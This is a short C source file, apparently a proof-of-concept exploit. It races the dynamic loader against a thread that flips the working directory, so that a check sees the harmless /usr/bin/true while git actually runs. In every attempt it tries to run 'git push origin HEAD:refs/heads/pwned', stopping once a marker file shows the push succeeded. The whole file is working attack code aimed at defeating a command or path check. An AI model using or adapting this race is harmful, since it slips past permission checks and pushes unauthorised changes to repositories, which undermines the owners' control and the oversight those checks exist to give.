// ldcwdflip EVILDIR MARKER: run the dynamic loader on "./true push ..." while
// a thread of the same process (sharing the working directory) moves the
// working directory between /usr/bin, where ./true is true, and EVILDIR,
// where ./true is a symlink to git. The check may see /usr/bin; the loader
// opens ./true after the exec, from wherever the working directory is
// then. Stops as soon as MARKER exists (the push reached the remote).
#include <pthread.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/wait.h>

static const char *evil;

static void *flip(void *arg) {
	(void)arg;
	for (;;) {
		chdir("/usr/bin");
		for (volatile int i = 0; i < 2000; i++)
			;
		chdir(evil);
	}
	return NULL;
}

int main(int argc, char **argv) {
	if (argc != 4)
		return 2;
	evil = argv[1];
	int tries = 0;
	sscanf(argv[3], "%d", &tries);
	for (int n = 0; n < tries; n++) {
		pid_t p = fork();
		if (p == 0) {
			pthread_t t;
			pthread_create(&t, NULL, flip, NULL);
			char *av[] = {"/lib64/ld-linux-x86-64.so.2", "./true", "push", "origin", "HEAD:refs/heads/pwned", NULL};
			execv(av[0], av);
			_exit(120);
		}
		int st;
		waitpid(p, &st, 0);
		if (access(argv[2], F_OK) == 0) {
			printf("attempt %d: git push ran\n", n);
			return 0;
		}
	}
	printf("no push in %d attempts\n", tries);
	return 1;
}
